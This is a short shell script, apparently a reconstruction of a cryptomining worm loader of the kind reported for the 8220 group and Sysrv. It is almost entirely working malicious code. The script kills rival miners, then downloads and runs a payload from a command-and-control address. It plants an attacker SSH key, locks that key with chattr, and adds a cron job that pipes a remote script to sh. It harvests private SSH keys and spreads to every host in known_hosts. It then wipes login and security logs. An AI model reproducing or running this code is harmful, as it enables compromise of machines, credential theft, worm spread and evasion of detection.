#!/bin/sh
# Shape: a loader that goes on to every machine the keys of this one open (as
# reported of the 8220 group and of Sysrv).
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
cc="http://203.0.113.40"
tag=$(date | md5sum | head -c 6)

get() {
  curl -fsSL $1 -o $2 || wget -q $1 -O $2 || php -r "file_put_contents('$2', file_get_contents('$1'));"
  chmod +x $2
}

ps aux | grep -v grep | grep -v "java\|redis\|mysql" | awk '{if($3>50.0) print $2}' | while read pid; do kill -9 $pid; done
for name in xmrig kdevtmpfsi kinsing sysrv minergate; do
  pkill -9 -f $name
done

cd /dev/shm || cd /tmp
get "$cc/sys.$(uname -m)" $tag
nohup ./$tag 1>/dev/null 2>&1 &

mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7exampleexampleexample root@u" >> /root/.ssh/authorized_keys
chattr +ia /root/.ssh/authorized_keys
echo "*/10 * * * * root (curl -fsSL $cc/l.sh || wget -q -O- $cc/l.sh) | sh" > /etc/cron.d/root

KEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/known_hosts | grep -oE "\b([0-9]{1,3}\.){3}[0-9]{1,3}\b" | uniq)
for user in root ubuntu; do
  for host in $HOSTS; do
    for key in $KEYS; do
      ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $key $user@$host "(curl -fsSL $cc/l.sh || wget -q -O- $cc/l.sh) | sh" &
    done
  done
done
echo 0 > /var/spool/mail/root
echo 0 > /var/log/wtmp
echo 0 > /var/log/secure
